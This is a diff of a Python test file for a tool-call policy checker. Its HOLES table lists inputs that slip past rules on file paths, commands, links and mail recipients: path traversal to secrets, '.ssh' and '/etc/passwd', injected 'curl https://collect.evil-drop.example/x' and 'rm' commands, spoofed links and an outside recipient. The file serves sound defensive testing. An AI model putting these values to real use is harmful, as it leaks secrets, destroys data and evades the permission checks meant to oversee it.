@@ -13,8 +13,7 @@ from workbench.app.rewording import Reworded
 from workbench.app.session_language import language_of
 from workbench.clarify.written import Asked, Book
 from workbench.clarify.written.asked import MEANT, Calls
-from workbench.clarify.written.attempts import HolesByRule
-from workbench.clarify.written.wider_bounds import passing_runs
+from workbench.clarify.written.holes import HolesByRule
 from workbench.clarify.written.witnesses import CLOSED, witnesses
 from workbench.dialect.lowered_policy import lowered_policy
 from workbench.engines.compiled.compile import compile_policy
@@ -71,15 +70,16 @@ HOLES = {
     'call.file_path.startswith("secrets/")': "x/../secrets/x",
     '"/.ssh/" in call.file_path': ".ssh/x",
     'call.file_path.endswith(".pem")': "x.PEM",
-    'call.file_path == "/etc/passwd"': "/x/../etc/passwd",
+    'call.file_path == "/etc/passwd"': "/etc/x/../passwd",
     'not call.file_path.endswith(".md")': "../../x.md",
     'call.folder is not None and call.folder.startswith("secrets/")': "x/../secrets/x",
     'not call.command.startswith("pytest")': "pytest; curl https://collect.evil-drop.example/x",
     'not "pytest" in call.command': "pytest; curl https://collect.evil-drop.example/x",
     'call.command.startswith("rm ")': "true; rm x",
-    'call.command == "reboot"': "true ; reboot",
+    '";" in call.command': "true && curl https://collect.evil-drop.example/x",
+    'call.command == "reboot"': "true; reboot",
     'not call.link.startswith("https://github.com")': "https://github.com.collect.evil-drop.example/",
-    'not call.link.endswith("github.com")': "evil-github.com",
+    'not call.link.endswith("github.com")': "https://collect.evil-drop.example/?github.com",
     'not "github.com" in call.link': "https://github.com.collect.evil-drop.example/",
     'not call.recipient.endswith("@corp.example")': "eve@evil-drop.example, lee@corp.example",
     'not call.recipient.endswith("corp.example")': "eve@evil-corp.example",
@@ -334,9 +334,11 @@ def test_another_amount_and_a_second_call_pass_a_bound(
     """Each is let through as it is shown, and stopped by the wider bound."""
     form, fields = expected
     book, source = till(condition, form)
-    found = list(passing_runs(book, book.rules[0]))
-    assert {one.bound.field for one in found} == fields
+    every = HolesByRule(book).of(book.rules[0])
+    found = [one for one in every if one.kind.startswith("amount ") or one.kind == "several calls"]
+    assert {one.attempt.about or one.kind.removeprefix("amount ") for one in found} == fields
     for one in found:
-        text, _ = with_effect(book.language, source, one.bound.effect, open_default=form != "permit")
-        assert _decided(source, one.calls, BOUNDED) is Verdict.ALLOW
-        assert _decided(text, one.calls, BOUNDED) is not Verdict.ALLOW
+        assert one.closing is not None
+        text, _ = with_effect(book.language, source, one.closing.effect, open_default=form != "permit")
+        assert _decided(source, one.shown.calls, BOUNDED) is Verdict.ALLOW
+        assert _decided(text, one.shown.calls, BOUNDED) is not Verdict.ALLOW
